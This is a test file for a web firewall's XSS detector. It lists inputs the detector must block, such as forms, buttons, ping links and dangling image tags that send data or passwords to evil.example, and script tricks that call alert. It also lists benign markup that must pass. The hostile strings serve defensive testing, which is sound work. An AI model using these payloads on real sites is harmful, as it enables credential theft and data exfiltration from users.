// What a page tells or sends to another host without any script, and what reads as a call and is a sentence.
import { test } from 'node:test';
import { detectXss } from '../../../../src/guard/decide/waf/detect/xss/xss.ts';
import { blocks, passes } from '../judged.ts';

test('a button that sends a form elsewhere, a link that tells who followed it and an address that waits are attacks', () => {
  blocks(detectXss, [
    '<form><button formaction="//evil.example/steal">Sign in</button>',
    '<input type=image formaction=https://evil.example src=x>',
    '<a ping=//evil.example href=#>x</a>',
    "<img src='//evil.example/log?",
    "<input type=image src='//evil.example/log?",
    'see <img src="https://evil.example/?c=',
  ]);
  passes(detectXss, [
    '<form action="/a"><button formaction="/drafts">Save draft</button></form>',
    '<a href="https://www.example.com/url?q=x" ping="/url?sa=t">x</a>',
    '<p formaction="//x.example">a</p>',
    "<img src='//cdn.example/a.png",
    '<img src="https://cdn.example/a.png?w=200&h=',
    '<a href="https://example.com/?',
  ]);
});

test('`of` joins nothing but what a loop goes over, so that a sentence is no call', () => {
  blocks(detectXss, [
    'alert(1)',
    'for (const x of [1]) alert(x)',
    'for (const [a] of [[1]]) alert(a)',
    '<img src=x onerror="for await (const x of y) alert(x)">',
    "';for(let a of b)alert(a);'",
  ]);
  passes(detectXss, ['alert (1) of 3', 'prompt (2) of the day', 'confirm (12) of 20']);
});

test('a name between brackets is handed to nobody', () => {
  blocks(detectXss, ['(alert)(1)', '[1].find(alert)', 'x=(alert),x(1)', "'-(alert)`1`-'"]);
  passes(detectXss, ['(alert)', '(eval)', '(confirm)']);
});

test('a password that a form sends elsewhere is an attack', () => {
  blocks(detectXss, [
    '<form action=//evil.example><input name=u><input type=password name=p>',
    '<form id=f action="https://evil.example/l"></form><input form=f type=PASSWORD>',
  ]);
  passes(detectXss, [
    '<form action="/login"><input type="password" name="p"></form>',
    '<form action="https://pay.example/"><input type="hidden" name="cmd"></form>',
    'Here is the sign-in form that we put on the page of our shop: <form action="https://id.example/"><input type="password"></form>',
  ]);
});
